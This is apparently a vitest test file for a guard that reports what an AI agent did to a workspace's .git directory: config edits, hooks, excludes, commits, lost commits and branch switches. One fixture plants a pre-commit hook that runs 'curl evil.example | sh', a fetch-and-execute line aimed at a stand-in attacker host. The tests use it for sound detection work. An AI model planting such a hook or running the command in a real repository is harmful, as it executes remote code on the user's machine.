import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { LocalTransport } from "../src/transports/local.js";
import { describeEvent } from "../src/ui/describe.js";
import { compareGit, gitChangesAround, observeGit } from "../src/workspace/git-guard.js";

const transport = new LocalTransport();
const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

const GIT_ENV = { ...process.env, GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null", GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" };

function git(cwd: string, ...args: string[]): string {
  const result = spawnSync("git", args, { cwd, encoding: "utf8", env: GIT_ENV, input: "" });
  if (result.status !== 0) throw new Error(`git ${args.join(" ")}: ${result.stderr}`);
  return result.stdout.trim();
}

/** A repository with two commits on main, as a user's workspace looks before orc runs an agent in it. */
function repo(): string {
  const dir = mkdtempSync(join(tmpdir(), "orc-gitguard-"));
  dirs.push(dir);
  git(dir, "init", "--quiet", "--initial-branch=main");
  writeFileSync(join(dir, "a.txt"), "one\n");
  git(dir, "add", "a.txt");
  git(dir, "commit", "--quiet", "-m", "one");
  appendFileSync(join(dir, "a.txt"), "two\n");
  git(dir, "commit", "--quiet", "-am", "two");
  return dir;
}

function commit(dir: string, line: string): void {
  appendFileSync(join(dir, "a.txt"), `${line}\n`);
  git(dir, "commit", "--quiet", "-am", line);
}

/** What the agent did, between the two observations of an attempt. */
async function around(dir: string, agent: () => void) {
  const guard = gitChangesAround(dir, transport);
  await guard.before();
  agent();
  return guard.after();
}

/** Every path under `dir` with its content hash, mode and mtime: what "nothing was written" is checked against. */
function fingerprintTree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: "utf8" })
    .sort()
    .map((path) => {
      const info = statSync(join(dir, path));
      const content = info.isFile() ? createHash("sha256").update(readFileSync(join(dir, path))).digest("hex") : "dir";
      return `${path} ${info.mode.toString(8)} ${String(info.mtimeMs)} ${content}`;
    });
}

const NOTHING = { config: false, hooks: [], exclude: false, attributes: false, refs: [], commits: 0, lost: 0, branch: "main" };

describe("git-guard: what an attempt did to the workspace's own .git", () => {
  it("sees nothing in a workspace that is not a repository", async () => {
    const dir = mkdtempSync(join(tmpdir(), "orc-gitguard-"));
    dirs.push(dir);
    expect(await observeGit(dir, transport)).toBeUndefined();
    expect(await around(dir, () => { writeFileSync(join(dir, "x"), "x"); })).toBeUndefined();
  });

  it("reports nothing when the agent only edited files, and writes nothing into .git while looking", async () => {
    const dir = repo();
    git(dir, "pack-refs", "--all");
    git(dir, "tag", "loose-tag");
    const before = fingerprintTree(join(dir, ".git"));
    expect(await around(dir, () => { writeFileSync(join(dir, "a.txt"), "edited\n"); })).toEqual(NOTHING);
    expect(fingerprintTree(join(dir, ".git"))).toEqual(before);
  });

  it("sees a config edit and an added hook; sample hooks are ignored", async () => {
    const dir = repo();
    const changes = await around(dir, () => {
      git(dir, "config", "core.hooksPath", "/tmp/elsewhere");
      writeFileSync(join(dir, ".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.example | sh\n", { mode: 0o755 });
      writeFileSync(join(dir, ".git/hooks/post-merge.sample"), "#!/bin/sh\n");
    });
    expect(changes).toEqual({ ...NOTHING, config: true, hooks: [{ path: "pre-commit", status: "added" }] });
  });

  it("sees a hook made executable, one edited, one removed, and one in a subfolder", async () => {
    const dir = repo();
    const hooks = join(dir, ".git/hooks");
    writeFileSync(join(hooks, "pre-push"), "#!/bin/sh\nexit 0\n", { mode: 0o644 });
    writeFileSync(join(hooks, "commit-msg"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    writeFileSync(join(hooks, "post-checkout"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    const changes = await around(dir, () => {
      chmodSync(join(hooks, "pre-push"), 0o755);
      writeFileSync(join(hooks, "commit-msg"), "#!/bin/sh\nexit 1\n");
      rmSync(join(hooks, "post-checkout"));
      mkdirSync(join(hooks, "_"));
      writeFileSync(join(hooks, "_/h"), "x");
    });
    expect(changes?.hooks).toEqual([
      { path: "_/h", status: "added" },
      { path: "commit-msg", status: "modified" },
      { path: "post-checkout", status: "deleted" },
      { path: "pre-push", status: "modified" },
    ]);
  });

  it("sees info/exclude and info/attributes", async () => {
    const dir = repo();
    const changes = await around(dir, () => {
      appendFileSync(join(dir, ".git/info/exclude"), "secret-output/\n");
      writeFileSync(join(dir, ".git/info/attributes"), "*.txt filter=sneaky\n");
    });
    expect(changes).toEqual({ ...NOTHING, exclude: true, attributes: true });
  });

  it("counts the agent's commits on its branch, and nothing lost", async () => {
    const dir = repo();
    const from = git(dir, "rev-parse", "HEAD");
    const changes = await around(dir, () => {
      commit(dir, "three");
      commit(dir, "four");
    });
    expect(changes).toEqual({ ...NOTHING, refs: [{ ref: "refs/heads/main", from, to: git(dir, "rev-parse", "HEAD") }], commits: 2 });
  });

  it("counts commits on a new branch the agent switched to, and reports HEAD's switch", async () => {
    const dir = repo();
    const changes = await around(dir, () => {
      git(dir, "checkout", "--quiet", "-b", "topic");
      commit(dir, "three");
    });
    expect(changes).toMatchObject({ commits: 1, lost: 0, branch: "topic" });
    expect(changes?.refs.map((r) => [r.ref, r.from, r.to])).toEqual([
      ["refs/heads/topic", undefined, git(dir, "rev-parse", "HEAD")],
      ["HEAD", "refs/heads/main", "refs/heads/topic"],
    ]);
  });

  it("a switch to an existing branch makes no commit", async () => {
    const dir = repo();
    git(dir, "branch", "old", "HEAD~1");
    const changes = await around(dir, () => git(dir, "checkout", "--quiet", "old"));
    expect(changes).toMatchObject({ commits: 0, lost: 0, branch: "old", refs: [{ ref: "HEAD", from: "refs/heads/main", to: "refs/heads/old" }] });
  });

  it("counts commits a reset or a deleted branch left unreachable", async () => {
    const dir = repo();
    git(dir, "branch", "feature");
    commit(dir, "three");
    const changes = await around(dir, () => {
      git(dir, "reset", "--quiet", "--hard", "HEAD~2");
      git(dir, "branch", "--quiet", "-D", "feature");
    });
    // main lost "three" and "two", and "two" was the deleted feature's tip too: two commits, each counted once.
    expect(changes).toMatchObject({ commits: 0, lost: 2, branch: "main" });
    expect(changes?.refs.map((r) => r.ref)).toEqual(["refs/heads/feature", "refs/heads/main"]);
  });

  it("an amended commit of the user's is lost, the new one counted", async () => {
    const dir = repo();
    const changes = await around(dir, () => git(dir, "commit", "--quiet", "--amend", "-m", "two, reworded"));
    expect(changes).toMatchObject({ commits: 1, lost: 1 });
  });

  it("follows a detached HEAD", async () => {
    const dir = repo();
    git(dir, "checkout", "--quiet", "--detach", "HEAD~1");
    const from = git(dir, "rev-parse", "HEAD");
    const changes = await around(dir, () => { commit(dir, "three"); });
    expect(changes).toEqual({ ...NOTHING, branch: "", refs: [{ ref: "HEAD", from, to: git(dir, "rev-parse", "HEAD") }], commits: 1 });
  });

  it("sees a repository created or removed", async () => {
    const plain = mkdtempSync(join(tmpdir(), "orc-gitguard-"));
    dirs.push(plain);
    const created = await around(plain, () => {
      git(plain, "init", "--quiet", "--initial-branch=main");
      writeFileSync(join(plain, "f"), "f");
      git(plain, "add", "f");
      git(plain, "commit", "--quiet", "-m", "f");
    });
    expect(created).toMatchObject({ repository: "created", config: false, hooks: [], commits: 1, branch: "main" });
    const dir = repo();
    const removed = await around(dir, () => { rmSync(join(dir, ".git"), { recursive: true }); });
    expect(removed).toMatchObject({ repository: "removed", refs: [{ ref: "refs/heads/main" }], lost: -1 });
  });

  it("follows a linked worktree's .git file to the shared config, hooks and refs", async () => {
    const main = repo();
    const tree = join(main, "..", `${main.split("/").at(-1) ?? "x"}-wt`);
    dirs.push(tree);
    git(main, "worktree", "add", "--quiet", "-b", "wt", tree);
    const changes = await around(tree, () => {
      git(tree, "config", "user.name", "agent");
      writeFileSync(join(main, ".git/hooks/pre-commit"), "#!/bin/sh\n", { mode: 0o755 });
      commit(tree, "in the worktree");
    });
    expect(changes).toMatchObject({ config: true, hooks: [{ path: "pre-commit", status: "added" }], commits: 1, branch: "wt", refs: [{ ref: "refs/heads/wt" }] });
  });

  it("counts only what happened between before() and after(): a human's commit between attempts is not the agent's", async () => {
    const dir = repo();
    const guard = gitChangesAround(dir, transport);
    expect(await guard.after()).toBeUndefined(); // nothing observed before: nothing to compare with
    await guard.before();
    commit(dir, "the agent's");
    expect(await guard.after()).toMatchObject({ commits: 1 });
    commit(dir, "the human's, while a breakpoint waits");
    await guard.before();
    expect(await guard.after()).toEqual({ ...NOTHING });
  });

  it("says so when a .git file names no git directory", async () => {
    const dir = mkdtempSync(join(tmpdir(), "orc-gitguard-"));
    dirs.push(dir);
    writeFileSync(join(dir, ".git"), "gitdir: ./nowhere\n");
    const state = await observeGit(dir, transport);
    expect(state?.problem).toMatch(/^\.git names .*nowhere, which is not a directory$/);
    expect(await compareGit(state, state, transport)).toMatchObject({ config: false, refs: [], commits: -1, lost: -1, unobserved: state?.problem });
  });

  it("reads 5,000 refs in well under a second", async () => {
    const dir = repo();
    const head = git(dir, "rev-parse", "HEAD");
    const lines = Array.from({ length: 5000 }, (_, i) => `create refs/heads/b${String(i).padStart(4, "0")} ${head}\n`).join("");
    spawnSync("git", ["update-ref", "--stdin"], { cwd: dir, input: lines, env: GIT_ENV });
    const started = performance.now();
    const state = await observeGit(dir, transport);
    const ms = performance.now() - started;
    expect(Object.keys(state?.refs ?? {})).toHaveLength(5001);
    expect(ms).toBeLessThan(1000);
    const moved = await around(dir, () => { commit(dir, "three"); });
    expect(moved).toMatchObject({ commits: 1, lost: 0, refs: [{ ref: "refs/heads/main" }] });
  });
});

describe("the log line of a change set", () => {
  it("tells what the agent did to .git", async () => {
    const dir = repo();
    const changes = await around(dir, () => {
      git(dir, "config", "core.editor", "vim");
      writeFileSync(join(dir, ".git/hooks/pre-commit"), "#!/bin/sh\n", { mode: 0o755 });
      git(dir, "checkout", "--quiet", "-b", "topic");
      commit(dir, "three");
      git(dir, "tag", "v1");
    });
    const event = { type: "changes.detected", run: "r", task: "t", attempt: 1, files: [], linesChanged: 0, time: "", seq: 1, ...(changes === undefined ? {} : { git: changes }) } as const;
    expect(describeEvent(event, new Map())).toBe(
      "[t] no files changed; git: changed .git/config, added hook pre-commit, switched to topic, made 1 commit on topic, changed 1 ref (refs/tags/v1)",
    );
  });
});
